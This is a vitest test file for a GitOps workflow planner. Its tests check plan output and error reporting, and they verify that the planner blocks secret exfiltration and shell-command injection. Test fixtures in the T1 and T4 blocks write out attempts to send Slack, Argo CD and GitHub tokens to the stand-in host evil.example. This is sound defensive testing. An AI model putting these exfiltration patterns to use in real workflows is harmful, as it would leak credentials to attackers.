import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { boundSecrets, isWholeReference } from '../../../src/core/workflow/bound-secrets.js';
import { builtInFile, builtInWorkflow } from '../../../src/core/workflow/built-in.js';
import { planWorkflow } from '../../../src/core/workflow/plan.js';
import { bindOutputs, stepOutputs } from '../../../src/core/workflow/steps.js';
import { sharedMaterial } from '../../support/shared-material.js';
import { cleanPlan, context, planOf, problemsOf, workflow } from './plan-of.js';
import { seedLike } from './seed-like.js';

const seed = sharedMaterial('seeds/argocd-gitops.osop.yaml');

describe('the GitOps workflow plans without a problem', () => {
  const steps = [
    { kind: 'commit' },
    { kind: 'validate' },
    { kind: 'sync', app: 'production-app', revision: '{{commit_sha}}', prune: true },
    { kind: 'gate', app: 'production-app' },
    { kind: 'notify', channel: 'slack', body: undefined },
    { kind: 'rollback', app: 'production-app', steps: 1 },
    { kind: 'notify', channel: 'slack', body: undefined },
  ];

  test('as written here', async () => {
    const plan = await cleanPlan(seedLike);
    expect([...plan.nodes.values()].map(({ step }) => step)).toEqual(steps);
    expect(plan.edges.map(({ condition }) => condition?.source)).toEqual([
      undefined, 'validation_result.valid == true', undefined, "health_status.status == 'Healthy'", "health_status.status != 'Healthy'", undefined,
    ]);
  });

  test.skipIf(seed.missing)('as the seed has it', async () => {
    const plan = await cleanPlan(readFileSync(seed.path, 'utf8'));
    expect([...plan.nodes.values()].map(({ step }) => step)).toEqual(steps);
  });
});

describe('the built-in workflow', () => {
  test.each([{ notify: true }, { notify: false }])('plans without a problem, notify: $notify', async ({ notify }) => {
    const { plan, problems } = await planWorkflow(builtInWorkflow({ notify, bump: false }), builtInFile, { ...context, slackBound: notify, inputs: { app: 'web' } });
    expect(problems).toEqual([]);
    expect([...(plan?.nodes.values() ?? [])].map(({ step }) => step.kind)).toEqual(['commit', 'validate', 'sync', 'gate', 'rollback', ...(notify ? ['notify', 'notify'] : [])]);
  });

  test('does not plan without an application', async () => {
    expect((await planWorkflow(builtInWorkflow({ notify: false, bump: false }), builtInFile, context)).problems.map(({ code, message }) => `${code} ${message}`)).toEqual([
      'OSOP-EXPR-002 `${inputs.app}` names an input that is not given',
      'OSOP-EXPR-002 `${inputs.app}` names an input that is not given',
      'OSOP-EXPR-002 `${inputs.app}` names an input that is not given',
    ]);
  });
});

test('all problems are told at once, each at its place', async () => {
  expect(await problemsOf(workflow([
    'id: a, type: git, runtime: {action: webhook, repository: org/other}, outputs: [commit_sha]',
    'id: b, type: docker',
    'id: c, type: infra, runtime: {tool: argocd, action: snyc, app_name: web}',
    'id: d, type: api, runtime: {url: "https://x/api/v1/applications/{{comit_sha}}"}',
    'id: e, type: api, runtime: {url: "https://x/api/v1/applications/web"}, success_criteria: ["nope == 1"]',
  ], { edges: ['from: a, to: b', 'from: b, to: c', 'from: c, to: d, mode: conditional, when: "commit_sha == "', 'from: d, to: e'] }))).toEqual([
    'OSOP-PLAN-003 5:73 node `a` names the repository `org/other`, but this run is for `org/k8s-manifests` | correct `repository` in the workflow, or set the input config-repository',
    'OSOP-PLAN-001 6:29 node `b` of type `docker` cannot be executed here | executable are git, system (validate), infra (argocd), api, cli and human nodes, and nodes with a workflow_ref',
    'OSOP-PLAN-002 7:68 node `c` cannot be executed here: `action: snyc` is not known for type `infra` | known: sync, rollback, promote, promote-full, abort, retry, pause, restart',
    expect.stringMatching(/^OSOP-EXPR-001 13:45 the expression `commit_sha == ` cannot be read: .+ \(at character \d+\) \| expressions are CEL/),
    'OSOP-EXPR-002 9:106 `nope` is not known here: no node upstream outputs `nope`, and no variable has that name | known here: commit_sha',
    'OSOP-EXPR-002 8:49 `{{comit_sha}}` is not known here: no node upstream outputs `comit_sha`, and no variable has that name | did you mean `commit_sha`?',
  ]);
});

test('problems of reading, of the rules and of planning come together, and warnings leave a plan', async () => {
  const text = workflow(['id: a, type: git, outputs: [x]', 'id: b, type: human, inputs: [y]'], { edges: ['from: a, to: b'], head: 'name: W' });
  expect((await planOf(text)).plan).toBeDefined();
  expect(await problemsOf(text)).toEqual([expect.stringContaining('OSOP-DOC-026')]);
  expect(await problemsOf('nodes: [')).toEqual([expect.stringContaining('OSOP-YAML-001')]);
});

describe("T1: a fork's file cannot send a secret elsewhere", () => {
  const post = (runtime: string): string => workflow([`id: leak, type: api, runtime: {method: POST, ${runtime}}`]);
  const secret = 'OSOP-EXPR-002';
  test.each<readonly [string, string, readonly string[]]>([
    ['as part of another url', 'url: "https://evil.example/?u={{SLACK_WEBHOOK_URL}}"', ['OSOP-PLAN-002', secret]],
    ['after the secret url', 'url: "{{SLACK_WEBHOOK_URL}}.evil.example"', ['OSOP-PLAN-002', secret]],
    ['as user of another url', 'url: "https://{{SLACK_WEBHOOK_URL}}@evil.example/"', ['OSOP-PLAN-002', secret]],
    ['in the body for another url', 'url: "https://evil.example/", body: {u: "{{SLACK_WEBHOOK_URL}}"}', ['OSOP-PLAN-002', secret]],
    ['in the body for Slack', 'url: "{{SLACK_WEBHOOK_URL}}", body: {text: "{{ SLACK_WEBHOOK_URL }}"}', [secret]],
    ['by the name of env', 'url: "https://evil.example/?u=${env.SLACK_WEBHOOK_URL}"', ['OSOP-PLAN-002', secret]],
    ['in a header', 'url: "{{SLACK_WEBHOOK_URL}}", headers: {X-Leak: "{{SLACK_WEBHOOK_URL}}"}', [secret]],
    ['a token of Argo CD', 'url: "https://evil.example/{{ARGOCD_AUTH_TOKEN}}"', ['OSOP-PLAN-002', secret]],
    ['a token of GitHub', 'url: "https://evil.example/${env.GITHUB_TOKEN}"', ['OSOP-PLAN-002', secret]],
    ['by an expression of GitHub', 'url: "https://evil.example/${{ secrets.TOKEN }}"', ['OSOP-PLAN-002', 'OSOP-EXPR-003']],
    ['by the whole env', 'url: "https://evil.example/{{env}}"', ['OSOP-PLAN-002']],
  ])('%s', async (_title, runtime, codes) => {
    const { plan, problems } = await planOf(post(runtime));
    expect(plan).toBeUndefined();
    expect(problems.map(({ code }) => code)).toEqual(codes);
  });

  test.each<readonly [string, string]>([
    ['as the name of an application', 'id: leak, type: api, runtime: {url: "https://evil.example/api/v1/applications/{{SLACK_WEBHOOK_URL}}"}'],
    ['as the application of a sync', 'id: leak, type: infra, runtime: {tool: argocd, action: sync, app_name: "{{SLACK_WEBHOOK_URL}}"}'],
    ['to a sub-workflow', 'id: leak, type: git, workflow_ref: sub.osop.yaml, workflow_inputs: {u: "{{SLACK_WEBHOOK_URL}}"}'],
    ['to a program', 'id: leak, type: cli, runtime: {command: env, env: {U: "{{SLACK_WEBHOOK_URL}}"}}'],
    ['to an approval', 'id: leak, type: human, runtime: {question: "{{SLACK_WEBHOOK_URL}}"}'],
  ])('%s', async (_title, node) => {
    const { plan, problems } = await planOf(workflow([node]), { allowCommands: true, readWorkflow: () => workflow(['id: x, type: git']) });
    expect(plan).toBeUndefined();
    expect(problems.map(({ code, message, hint }) => `${code} ${message}; ${hint}`)).toEqual([
      'OSOP-EXPR-002 `{{SLACK_WEBHOOK_URL}}` is a secret and is not bound here; it may only be the whole `url` of an api node with method POST',
    ]);
  });

  test('to a handler of a library user, who did not ask for it', async () => {
    const customHandlers = [{ name: 'mine', matches: () => true }];
    expect((await planOf(workflow(['id: leak, type: api, runtime: {url: "{{SLACK_WEBHOOK_URL}}"}']), { customHandlers })).problems.map(({ code }) => code)).toEqual([secret]);
  });

  test('in a condition', async () => {
    expect(await problemsOf(workflow(['id: a, type: git', 'id: b, type: git'], { edges: ['from: a, to: b, mode: conditional, when: "SLACK_WEBHOOK_URL.startsWith(\'https\')"'] }))).toEqual([
      'OSOP-EXPR-002 8:45 `SLACK_WEBHOOK_URL` is a secret and is not bound here | it may only be the whole `url` of an api node with method POST',
    ]);
  });

  test('percent-encoding does not make a template that nobody checked', async () => {
    const plan = await cleanPlan(workflow(['id: a, type: api, runtime: {url: "https://x/api/v1/applications/%7B%7BSLACK_WEBHOOK_URL%7D%7D"}', 'id: b, type: api, runtime: {url: "https://x/api/v1/applications/%24{env.A}"}'], { edges: ['from: a, to: b'] }));
    expect([...plan.nodes.values()].map(({ step }) => step)).toEqual([
      { kind: 'gate', app: '%7B%7BSLACK_WEBHOOK_URL%7D%7D' },
      { kind: 'gate', app: '%24{env.A}' },
    ]);
  });

  test('a bound secret is whole or not there', () => {
    expect(boundSecrets).toEqual(['SLACK_WEBHOOK_URL']);
    for (const whole of ['{{SLACK_WEBHOOK_URL}}', ' {{ SLACK_WEBHOOK_URL }} ', '{{env.SLACK_WEBHOOK_URL}}', '${env.SLACK_WEBHOOK_URL}']) {
      expect(isWholeReference(whole, 'SLACK_WEBHOOK_URL')).toBe(true);
    }
    for (const part of ['{{SLACK_WEBHOOK_URL}}x', 'x{{SLACK_WEBHOOK_URL}}', '{{SLACK_WEBHOOK_URL}}{{SLACK_WEBHOOK_URL}}', '{{SLACK_WEBHOOK_URLS}}', '{{inputs.SLACK_WEBHOOK_URL}}', 'SLACK_WEBHOOK_URL', '']) {
      expect(isWholeReference(part, 'SLACK_WEBHOOK_URL')).toBe(false);
    }
  });
});

describe('T4: a value never becomes part of a shell command', () => {
  const cli = (command: string): string => workflow(['id: a, type: git, outputs: [branch]', `id: b, type: cli, runtime: {command: '${command}'}`], { edges: ['from: a, to: b'] });
  test.each(['echo {{branch}}', 'echo "${outputs.a.branch}"', 'echo ${ inputs.x }', 'echo {{ branch', 'echo ${env.X}'])('%s is refused', async (command) => {
    expect(await problemsOf(cli(command), { allowCommands: true })).toEqual([
      'OSOP-PLAN-009 6:53 the command of node `b` holds a template; a value in a shell command could be run as code | put the value under `runtime.env` (env: {SHA: "{{commit_sha}}"}) and use "$SHA" in the command',
    ]);
  });

  test.each(['echo "$BRANCH"', 'echo "${BRANCH:-main}" "${BRANCH}"', 'echo $(date) `id`; true', 'awk "{ print $1 }"'])('%s is the shell\'s own business', async (command) => {
    const plan = await cleanPlan(cli(command), { allowCommands: true });
    expect(plan.nodes.get('b')?.step).toEqual({ kind: 'command', command, env: {} });
  });

  test('the environment of the command may hold templates, and they are checked', async () => {
    const withEnv = (name: string): string => workflow(['id: a, type: git, outputs: [branch]', `id: b, type: cli, runtime: {command: 'echo $B', env: {B: "{{${name}}}"}}`], { edges: ['from: a, to: b'] });
    expect((await cleanPlan(withEnv('branch'), { allowCommands: true })).nodes.get('b')?.step).toEqual({ kind: 'command', command: 'echo $B', env: { B: '{{branch}}' } });
    expect(await problemsOf(withEnv('brunch'), { allowCommands: true })).toEqual([expect.stringMatching(/^OSOP-EXPR-002 6:\d+ `\{\{brunch\}\}` is not known here.+did you mean `branch`\?$/)]);
  });
});

test('declared outputs are the field of that name, or all that the step produced', () => {
  const produced = { status: 'Healthy', seconds: 3 };
  expect(bindOutputs(['status', 'health_status'], produced)).toEqual({ status: 'Healthy', health_status: produced });
  expect(bindOutputs([], produced)).toEqual({});
  expect(bindOutputs(['toString'], produced)).toEqual({ toString: produced });
  expect(stepOutputs.workflow).toBeUndefined();
});
